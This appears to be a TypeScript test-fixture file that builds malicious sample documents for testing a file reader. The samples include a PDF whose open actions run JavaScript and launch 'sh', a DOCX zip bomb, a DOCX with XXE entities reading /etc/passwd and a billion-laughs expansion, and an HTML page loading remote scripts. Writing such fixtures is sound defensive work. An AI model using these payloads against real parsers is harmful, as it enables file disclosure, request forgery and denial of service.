import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { makePdf } from '../../../server/kernel/reader/testing/make-pdf.ts';

/** A picture as a camera writes it: the beginning of a JPEG, then bytes without sense. */
export const makePicture = (): Uint8Array =>
  Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(3000, 0x9d)]);

/** A PDF that nobody opens without its password. */
export const makeLockedPdf = (): Uint8Array => makePdf([[{ text: 'Secret', y: 60 }]], { encrypted: true });

/** What a scanner makes: pages that are one picture each. */
export function makeScan(): Uint8Array {
  const side = 64;
  const pixels = deflateSync(Buffer.alloc(side * side, 0xcc));
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
    writeStream('', Buffer.from('q 595 0 0 842 0 0 cm /I Do Q')),
    writeStream(
      `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`,
      pixels,
    ),
  ];
  return writePdf(objects);
}

/** A PDF whose script runs when it is opened, and which would load a page and start a program. */
export function makeScriptedPdf(text: string, address: string): Uint8Array {
  return writePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${address}"\\); while \\(true\\) {}) >> /AA << /WC << /S /URI /URI (${address}) >> >> >>`,
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O << /S /Launch /F (sh) >> >> /Resources << /Font << /R << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
    writeStream('', Buffer.from(`BT /R 12 Tf 60 780 Td (${text}) Tj ET`)),
  ]);
}

/** A PDF of so many pages, one word on each. */
export const makeLongPdf = (pages: number): Uint8Array =>
  makePdf(Array.from({ length: pages }, (_each, page) => [{ text: `Page${page + 1}`, y: 60 }]));

/** A DOCX of some kilobytes whose text would fill a disk. */
export function makeBomb(): Uint8Array {
  const filler = strToU8(`<w:document><w:body>${'<w:p/>'.repeat(4_000_000)}</w:body></w:document>`);
  return zipSync({ ...docxParts, 'word/document.xml': filler });
}

/** A DOCX whose text stands in entities: one read from a file of the server, one fetched, one that doubles. */
export function makeEntityDocx(text: string, address: string): Uint8Array {
  const doubling = Array.from({ length: 30 }, (_each, i) => `<!ENTITY e${i + 1} "&e${i};&e${i};">`).join('');
  return zipSync({
    ...docxParts,
    'word/document.xml': strToU8(
      `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "${address}"><!ENTITY e0 "ha">${doubling}]>` +
        `<w:document><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p><w:p><w:r><w:t>&file;&web;&e30;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  });
}

/** A page that runs, frames and loads whatever it can. */
export const makeActiveHtml = (text: string, address: string): string =>
  `<!doctype html><html><head><script src="${address}/a.js"></script><script>location = '${address}/b'</script>` +
  `<link rel="stylesheet" href="${address}/c.css"><meta http-equiv="refresh" content="0;url=${address}/d"></head>` +
  `<body onload="fetch('${address}/e')"><img src="${address}/f.png" onerror="alert(1)"><iframe src="${address}/g"></iframe>` +
  `<object data="${address}/h"></object><p>${text}</p><svg><script>alert(2)</script></svg></body></html>`;

const docxParts = {
  '[Content_Types].xml': strToU8(
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  ),
  '_rels/.rels': strToU8(
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
  ),
};

const writeStream = (entries: string, content: Uint8Array): string =>
  `<< ${entries} /Length ${content.length} >>\nstream\n${Buffer.from(content).toString('latin1')}\nendstream`;

/** Numbers the objects from 1, the catalogue first. */
function writePdf(objects: readonly string[]): Uint8Array {
  let file = '%PDF-1.7\n';
  const rows = objects.map((body, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const count = objects.length + 1;
  file += `xref\n0 ${count}\n0000000000 65535 f \n${rows.join('')}trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF`;
  return Buffer.from(file, 'latin1');
}
